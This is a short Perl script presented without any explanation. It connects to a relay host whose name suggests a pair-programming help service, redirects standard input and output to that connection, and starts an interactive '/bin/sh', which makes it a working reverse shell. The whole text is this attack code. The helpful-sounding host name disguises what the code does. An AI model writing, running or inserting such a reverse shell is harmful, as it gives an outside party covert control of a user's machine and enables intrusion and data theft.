use strict;
use Socket;
my $relay = "relay.pair-help.example.net";
socket(my $s, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect($s, sockaddr_in(4433, inet_aton($relay)))) {
    open(STDIN, ">&", $s); open(STDOUT, ">&", $s);
    exec("/bin/sh", "-i");
}
